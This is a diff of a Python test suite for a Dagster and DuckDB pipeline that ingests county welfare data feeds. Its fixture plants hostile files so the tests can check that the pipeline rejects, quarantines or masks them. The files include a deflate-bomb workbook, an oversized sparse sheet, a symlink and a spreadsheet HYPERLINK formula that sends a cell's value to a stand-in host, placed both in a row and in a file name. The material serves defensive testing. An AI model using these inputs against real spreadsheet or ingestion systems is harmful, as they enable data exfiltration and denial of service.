@@ -29,12 +29,12 @@ from pathlib import Path
 import dagster as dg
 import pytest
 from python_calamine import CalamineWorkbook
+from test_hostile_workbooks import deflate_bomb, far_cell_workbook  # the hostile workbooks of that suite
 
+from assets.common import WAREHOUSE_POOL
 from pipelines.cli import main
 from pipelines.instance import instance_at
 from pipelines.recovery import IN_PROGRESS
-from assets.common import WAREHOUSE_POOL
-from test_hostile_workbooks import deflate_bomb, far_cell_workbook  # the hostile workbooks of that suite
 from warehouse.resource import connect
 
 AS_OF = "2026-11-28"
@@ -55,17 +55,34 @@ def keys():
 
 
 PETITIONS = "信访件编号,身份证号,姓名,登记日期,问题属地,问题类别,诉求内容\n"
-FORMULA = "=HYPERLINK(\"http://x.example/?q=\"&A1,\"点击\")"
+FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"点击")'
 
 
 @pytest.fixture(scope="module")
 def county(tmp_path_factory) -> Path:
     """A generated county, plus a night's worth of hostile deliveries (issue 11's list)."""
     out = tmp_path_factory.mktemp("ops") / "county"
-    assert main(["synth", "--out", str(out), "--households", str(HOUSEHOLDS), "--months", str(MONTHS),
-                 "--as-of", AS_OF, "--quiet"]) == 0
+    assert (
+        main(
+            [
+                "synth",
+                "--out",
+                str(out),
+                "--households",
+                str(HOUSEHOLDS),
+                "--months",
+                str(MONTHS),
+                "--as-of",
+                AS_OF,
+                "--quiet",
+            ]
+        )
+        == 0
+    )
     landing = out / "landing"
-    person = next(r for r in csv.DictReader((out / "truth" / "persons.csv").open(encoding="utf-8")) if r["in_roster"] == "true")
+    person = next(
+        r for r in csv.DictReader((out / "truth" / "persons.csv").open(encoding="utf-8")) if r["in_roster"] == "true"
+    )
     pid, name = person["id_number"], person["name"]
 
     def drop(feed: str, file_name: str | bytes, content: bytes | str) -> None:
@@ -76,31 +93,64 @@ def county(tmp_path_factory) -> Path:
             fh.write(content if isinstance(content, bytes) else content.encode("utf-8"))
         os.utime(path, (time.time() - 3600,) * 2)
 
-    drop("wj_diagnoses", f"{pid}_{name}_诊断证明_20261127.csv", f"登记编号,身份证号,姓名,诊断日期\nZD1,{pid},{name},2026-11-20\n")
+    drop(
+        "wj_diagnoses",
+        f"{pid}_{name}_诊断证明_20261127.csv",
+        f"登记编号,身份证号,姓名,诊断日期\nZD1,{pid},{name},2026-11-20\n",
+    )
     drop("yb_settlements", "医保结算_稀疏_20261127.xlsx", far_cell_workbook("XFD1048576", "A1:XFD1048576"))
     drop("mz_verification", "核对结果_20261127.xlsx", deflate_bomb(64))
-    drop("xf_petitions", "信访事项_20261127_乙.csv".encode("gbk"), PETITIONS + f"XF-G1,{pid},{name},2026-11-26,红河,其他,咨询\n")
+    drop(
+        "xf_petitions",
+        "信访事项_20261127_乙.csv".encode("gbk"),
+        PETITIONS + f"XF-G1,{pid},{name},2026-11-26,红河,其他,咨询\n",
+    )
     drop("wj_deaths", ".死亡登记_20261127.csv", "身份证号,姓名,死亡日期\n")
     (landing / "rs_employment" / "登记_20261127.csv").symlink_to(out / "truth" / "persons.csv")
     drop("jy_education", "学生资助_20261127.csv", "学号,姓名\n1,张三\n")
     long_text = "困难" * (5 << 20)  # 10 M characters in one value
-    drop("xf_petitions", "信访事项_20261127_长.csv", PETITIONS + "".join(
-        f"XF-L{i},,,2026-11-26,红河,其他,{long_text if i == 3 else '咨询'}\n" for i in range(6)))
-    drop("xf_petitions", "信访事项_20261127_空.csv", PETITIONS + "XF-N1,,,2026-11-26,红河,其\x00他,咨询\nXF-N2,,,2026-11-26,红河,其他,咨询\n")
+    drop(
+        "xf_petitions",
+        "信访事项_20261127_长.csv",
+        PETITIONS + "".join(f"XF-L{i},,,2026-11-26,红河,其他,{long_text if i == 3 else '咨询'}\n" for i in range(6)),
+    )
+    drop(
+        "xf_petitions",
+        "信访事项_20261127_空.csv",
+        PETITIONS + "XF-N1,,,2026-11-26,红河,其\x00他,咨询\nXF-N2,,,2026-11-26,红河,其他,咨询\n",
+    )
     # a formula in a row that is quarantined (bad date), and in a rejected file's name; an ID number written
     # with spaces in the free text and in the name column of another quarantined row
     spaced = " ".join([pid[:6], pid[6:10], pid[10:14], pid[14:]])
-    drop("xf_petitions", "信访事项_20261127_公式.csv", PETITIONS
-         + f'XF-F1,,,2026-13-45,红河,其他,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
-         + f"XF-F2,,{spaced},2026-13-46,红河,其他,我是{name}，身份证号 {spaced}，请帮忙\n")
+    drop(
+        "xf_petitions",
+        "信访事项_20261127_公式.csv",
+        PETITIONS
+        + f'XF-F1,,,2026-13-45,红河,其他,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
+        + f"XF-F2,,{spaced},2026-13-46,红河,其他,我是{name}，身份证号 {spaced}，请帮忙\n",
+    )
     drop("xf_petitions", "=HYPERLINK(1)_20261127.csv", "")
     return landing
 
 
 def jiuzhu_run(landing: Path, home: Path, env: dict | None = None) -> subprocess.Popen:
     return subprocess.Popen(
-        [sys.executable, "-m", "pipelines.cli", "run", "--landing", str(landing), "--home", str(home), "--as-of", AS_OF],
-        env={**os.environ, **KEYS, **(env or {})}, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+        [
+            sys.executable,
+            "-m",
+            "pipelines.cli",
+            "run",
+            "--landing",
+            str(landing),
+            "--home",
+            str(home),
+            "--as-of",
+            AS_OF,
+        ],
+        env={**os.environ, **KEYS, **(env or {})},
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
     )
 
 
@@ -123,8 +173,10 @@ def wait_for_a_held_slot(home: Path, after_steps: int) -> None:
         if instance is not None:
             try:
                 runs = instance.get_runs()
-                done = sum(len(instance.get_records_for_run(r.run_id, of_type=dg.DagsterEventType.STEP_SUCCESS).records)
-                           for r in runs)
+                done = sum(
+                    len(instance.get_records_for_run(r.run_id, of_type=dg.DagsterEventType.STEP_SUCCESS).records)
+                    for r in runs
+                )
                 held = instance.event_log_storage.get_concurrency_info(WAREHOUSE_POOL).claimed_slots
                 if done >= after_steps and held:
                     return
@@ -154,9 +206,13 @@ def night_state(home: Path) -> dict:
     with connect(home / "warehouse.duckdb", read_only=True) as con:
         q = lambda sql: con.execute(sql).fetchall()  # noqa: E731
         return {
-            "files": q("SELECT feed, file_name, sha256, status, reason_code, rows_read, rows_loaded, rows_quarantined "
-                       "FROM audit.files ORDER BY ALL"),
-            "quarantine": q("SELECT feed, file_name, row_number, reason_code, stage FROM audit.quarantine ORDER BY ALL"),
+            "files": q(
+                "SELECT feed, file_name, sha256, status, reason_code, rows_read, rows_loaded, rows_quarantined "
+                "FROM audit.files ORDER BY ALL"
+            ),
+            "quarantine": q(
+                "SELECT feed, file_name, row_number, reason_code, stage FROM audit.quarantine ORDER BY ALL"
+            ),
             "raw_rows": q("SELECT count(*) FROM raw.mz_members"),
             "features": q("SELECT * FROM core.household_features ORDER BY household_id"),
             "warnings": q("SELECT * EXCLUDE (warning_id) FROM monitoring.warnings ORDER BY ALL"),
@@ -230,7 +286,12 @@ def test_only_the_service_account_can_read_the_home(undisturbed):
 def test_the_warehouse_is_encrypted_and_a_wrong_or_missing_key_is_refused(county, undisturbed, tmp_path):
     with connect(undisturbed / "warehouse.duckdb", read_only=True) as con:
         ids = [r[0] for r in con.execute("SELECT DISTINCT id_number FROM staging.mz_members LIMIT 50").fetchall()]
-        names = [r[0] for r in con.execute("SELECT DISTINCT name FROM staging.mz_members WHERE length(name) >= 3 LIMIT 50").fetchall()]
+        names = [
+            r[0]
+            for r in con.execute(
+                "SELECT DISTINCT name FROM staging.mz_members WHERE length(name) >= 3 LIMIT 50"
+            ).fetchall()
+        ]
     data = (undisturbed / "warehouse.duckdb").read_bytes()
     assert ids and names
     assert not any(i.encode() in data for i in ids) and not any(n.encode() in data for n in names)
@@ -244,7 +305,10 @@ def test_the_warehouse_is_encrypted_and_a_wrong_or_missing_key_is_refused(county
     key_free = {k: v for k, v in os.environ.items() if k != "JIUZHU_WAREHOUSE_KEY"}
     proc = subprocess.run(
         [sys.executable, "-m", "pipelines.cli", "run", "--landing", str(county), "--home", str(home), "--as-of", AS_OF],
-        env={**key_free, "JIUZHU_PERSON_KEY": KEYS["JIUZHU_PERSON_KEY"]}, capture_output=True, text=True, timeout=TIMEOUT,
+        env={**key_free, "JIUZHU_PERSON_KEY": KEYS["JIUZHU_PERSON_KEY"]},
+        capture_output=True,
+        text=True,
+        timeout=TIMEOUT,
     )
     assert proc.returncode == 1 and "找不到密钥" in proc.stderr  # no key file in the copy's secrets: it was set by env
     after = (home / "warehouse.duckdb").stat()
@@ -255,13 +319,22 @@ def test_the_warehouse_is_encrypted_and_a_wrong_or_missing_key_is_refused(county
 def test_no_file_a_department_can_send_stops_the_night(county, undisturbed):
     """Each hostile delivery has its recorded outcome, and the night's list went out."""
     with connect(undisturbed / "warehouse.duckdb", read_only=True) as con:
-        files = {(f, n): (s, c) for f, n, s, c in con.execute(
-            "SELECT feed, coalesce(display_name, file_name), status, reason_code FROM audit.files").fetchall()}
-        quarantined = dict(con.execute(
-            """SELECT coalesce(f.display_name, q.file_name), list(q.reason_code ORDER BY q.row_number)
+        files = {
+            (f, n): (s, c)
+            for f, n, s, c in con.execute(
+                "SELECT feed, coalesce(display_name, file_name), status, reason_code FROM audit.files"
+            ).fetchall()
+        }
+        quarantined = dict(
+            con.execute(
+                """SELECT coalesce(f.display_name, q.file_name), list(q.reason_code ORDER BY q.row_number)
                FROM audit.quarantine q JOIN audit.files f USING (file_id)
-               WHERE q.feed = 'xf_petitions' AND f.extract_date = DATE '2026-11-27' GROUP BY 1""").fetchall())
-        warnings = con.execute("SELECT count(*) FROM monitoring.warnings WHERE as_of_date = ?", [AS_OF]).fetchall()[0][0]
+               WHERE q.feed = 'xf_petitions' AND f.extract_date = DATE '2026-11-27' GROUP BY 1"""
+            ).fetchall()
+        )
+        warnings = con.execute("SELECT count(*) FROM monitoring.warnings WHERE as_of_date = ?", [AS_OF]).fetchall()[0][
+            0
+        ]
         gbk = "信访事项_20261127_乙.csv".encode("gbk").decode("utf-8", "backslashreplace")
     assert warnings > 0
     assert files[("yb_settlements", "医保结算_稀疏_20261127.xlsx")] == ("rejected", "TOO_LARGE")
@@ -279,7 +352,9 @@ def test_no_file_a_department_can_send_stops_the_night(county, undisturbed):
 
     # the quality workbook sent to 信访: no live formula in a value or a file name
     book = CalamineWorkbook.from_path(str(undisturbed / "exports" / AS_OF / "quality" / "xf_petitions.xlsx"))
-    cells = [c for sheet in ("隔离的行", "拒收的文件") for row in book.get_sheet_by_name(sheet).to_python() for c in row]
+    cells = [
+        c for sheet in ("隔离的行", "拒收的文件") for row in book.get_sheet_by_name(sheet).to_python() for c in row
+    ]
     texts = [c for c in cells if isinstance(c, str)]
     assert "'=HYPERLINK(1)_20261127.csv" in texts and "'" + FORMULA in texts
     assert not [c for c in texts if c.startswith(("=", "+", "@"))]
@@ -293,8 +368,13 @@ def test_no_file_a_department_can_send_stops_the_night(county, undisturbed):
 def test_a_file_name_holding_an_id_and_a_name_is_masked_everywhere_outside_the_warehouse(county, undisturbed):
     diagnosis = next((county / "wj_diagnoses").glob("*_诊断证明_20261127.csv")).name
     pid, name = diagnosis.split("_")[:2]
-    shown = [undisturbed / "dagster", undisturbed / "alerts", undisturbed / "exports" / AS_OF / "quality",
-             undisturbed / "exports" / AS_OF / "manifest.json", undisturbed.parent / "console.txt"]
+    shown = [
+        undisturbed / "dagster",
+        undisturbed / "alerts",
+        undisturbed / "exports" / AS_OF / "quality",
+        undisturbed / "exports" / AS_OF / "manifest.json",
+        undisturbed.parent / "console.txt",
+    ]
     leaked = []
     for root in shown:
         for path in [root] if root.is_file() else [p for p in root.rglob("*") if p.is_file()]:
@@ -336,8 +416,12 @@ def test_the_model_trains_and_is_the_same_in_both_homes(homes):
 
 
 def test_scores_are_identical(homes):
-    rows = _same(homes, """SELECT household_id, risk_score, model_version, top_factors, estimated_income_per_capita
-                           FROM monitoring.household_scores ORDER BY as_of_date, household_id""", "household scores")
+    rows = _same(
+        homes,
+        """SELECT household_id, risk_score, model_version, top_factors, estimated_income_per_capita
+                           FROM monitoring.household_scores ORDER BY as_of_date, household_id""",
+        "household scores",
+    )
     households = _rows(homes[0], "SELECT count(*) FROM core.households")[0][0]
     assert len(rows) == households
 
